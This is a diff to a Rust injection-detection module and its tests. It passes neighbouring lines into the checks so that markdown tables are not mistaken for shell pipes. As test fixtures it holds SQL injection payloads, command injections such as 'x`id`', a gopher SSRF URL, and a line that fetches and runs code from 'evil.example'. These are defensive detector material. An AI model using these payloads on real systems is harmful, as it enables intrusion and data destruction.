@@ -1,7 +1,7 @@
 //! What stands around a document goes on with its first line and from its last: lines that say nothing, before or behind, would
 //! hide what leaves a query, a command or a head. What acts by itself, such as a program's first line, documents have too.
 
-use super::bytes::{between, find_pair, from, is_blank, low, positions, skip_blank, starts_with, word_len};
+use super::bytes::{between, find_pair, from, is_blank, listed, low, positions, skip_blank, starts_with, word_len};
 use super::effort::Effort;
 use super::{Categories, Engine, Finding, Kind, Listener, profile};
 
@@ -17,12 +17,12 @@ impl Engine {
         effort: &mut Effort,
         report: &mut dyn FnMut(Finding) -> bool,
     ) -> bool {
-        let [first, last] = profile::outer_lines(layer);
+        let [(first, second), (last, above)] = profile::outer_lines(layer);
         let first = between(first, 0, first.len().min(LINE_BYTES_MAX));
         let last = from(last, last.len().saturating_sub(LINE_BYTES_MAX));
-        [first, last].into_iter().any(|line| {
+        [(first, second), (last, above)].into_iter().any(|(line, beside)| {
             let mut listener = Listener {
-                counts: &|rule| goes_on(line, rule),
+                counts: &|rule| goes_on(line, beside, rule),
                 report,
             };
             self.judge_layer(line, profile::bits(line), Kind::Parameter, left, effort, &mut listener)
@@ -30,8 +30,8 @@ impl Engine {
     }
 }
 
-/// Whether what a rule finds in a line leaves what stands around it.
-fn goes_on(line: &[u8], rule: &str) -> bool {
+/// Whether what a rule finds in a line leaves what stands around it. `beside`: what the line below or above begins with.
+fn goes_on(line: &[u8], beside: u8, rule: &str) -> bool {
     match rule {
         "request_forgery.scheme" => starts_with(line, b"gopher:") || starts_with(line, b"dict:"),
         "sql.union"
@@ -46,20 +46,46 @@ fn goes_on(line: &[u8], rule: &str) -> bool {
         "sql.stacked" | "sql.clause" | "sql.function" | "sql.delay" | "sql.file" | "sql.cast" => {
             !line.first().is_some_and(u8::is_ascii_alphabetic) || leaves_quote(line)
         }
-        "command.chained" | "command.shell" => is_chained(line),
+        "command.chained" | "command.shell" => is_chained(line, beside),
         _ => rule.starts_with("nosql.") || rule.starts_with("header."),
     }
 }
 
 /// Whether a line closes a quote that it did not open: one of either kind is left over, or the first closes what the line
-/// begins with (`x'; drop table users#'`). Between letters it is an apostrophe.
+/// begins with (`x'; drop table users#'`). Between letters it is an apostrophe, but in front of what a query goes on with.
 fn leaves_quote(line: &[u8]) -> bool {
+    /// Sorted.
+    const GOES_ON: [&str; 20] = [
+        "between",
+        "collate",
+        "div",
+        "for",
+        "glob",
+        "group",
+        "having",
+        "in",
+        "into",
+        "is",
+        "like",
+        "limit",
+        "mod",
+        "offset",
+        "order",
+        "procedure",
+        "regexp",
+        "rlike",
+        "union",
+        "xor",
+    ];
+    let goes_on = |at: usize| listed(&GOES_ON, between(line, at + 1, at + 1 + word_len(line, at + 1)));
     let letter = |at: Option<usize>| {
         at.and_then(|at| line.get(at))
             .is_some_and(|b| b.is_ascii_alphabetic() || *b >= 0x80)
     };
-    let quotes =
-        |quote: u8| positions(line, quote).filter(move |at| !(letter(at.checked_sub(1)) && letter(at.checked_add(1))));
+    let quotes = |quote: u8| {
+        positions(line, quote)
+            .filter(move |at| goes_on(*at) || !(letter(at.checked_sub(1)) && letter(at.checked_add(1))))
+    };
     let begun = word_len(line, 0);
     let closes = matches!(low(line, begun), b'\'' | b'"')
         && matches!(low(line, begun + 1), b')' | b';' | b' ' | b'\t')
@@ -69,15 +95,16 @@ fn leaves_quote(line: &[u8]) -> bool {
 
 /// Whether a line is what an argument goes on with, and no command of a script nor words with marks between: a separator
 /// stands before any blank, or behind what is no word.
-fn is_chained(line: &[u8]) -> bool {
+fn is_chained(line: &[u8], beside: u8) -> bool {
     let end = line.iter().position(|b| is_blank(*b)).unwrap_or(line.len());
     let word = between(line, 0, end);
-    // `| test | x |`: a row of a table.
-    let row = word == b"|" && line.ends_with(b"|");
+    // `| test | x |`: a row of a table, beside another, where no shell takes a bar.
+    let row = word == b"|" && line.ends_with(b"|") && beside == b'|';
     let separates = word.iter().any(|b| matches!(b, b';' | b'&' | b'|'));
     // `Use:`cat``: a span of code, behind a letter of another script as well.
-    let quotes = positions(word, b'`').count();
-    let quoted = word.first() == Some(&b'`') || quotes % 2 == 1;
+    let front = between(word, 0, positions(word, b'`').next().unwrap_or(word.len()));
+    let spans = front.iter().any(|b| *b >= 0x80 || matches!(b, b':' | b'('));
+    let quoted = front.len() < word.len() && (!spans || positions(word, b'`').count() % 2 == 1);
     // `NOW=$(date)` is a script's.
     let substitutes = find_pair(word, 0, *b"$(").is_some_and(|at| at == 0 || word.get(at - 1) != Some(&b'='));
     // `127.0.0.1 ;id`: an address or a number is no command.
@@ -135,6 +162,12 @@ mod tests {
             "Gopher://127.0.0.1:6379/_x",
             "x'; drop table users#'",
             "x' order by 5#'",
+            "x'order by 5#",
+            "x'limit 1;drop table users#",
+            "x'rlike sleep(5)#",
+            "| wget evil.example/x; sh x |",
+            "x`id`",
+            "127.0.0.1`id`",
             "127.0.0.1 ;id",
             "é;whoami",
             "127.0.0.1 && whoami",
@@ -156,11 +189,12 @@ mod tests {
             "NOW=$(date)",
             "cd /tmp && ls",
             "exit 0",
-            "| test | x | x |",
             "用来替代`less`或`more`。",
             "Use:`cat`",
             "Let's call sleep(5) and now() here",
             "It's sleep(5) that hangs",
+            "| test | x | x |\n| --- | --- | --- |",
+            "| --- | --- | --- |\n| test | x | x |",
         ] {
             for text in [format!("{line}{}", document()), format!("{}{line}", document())] {
                 assert!(!is_found(&engine, &text), "{text}");
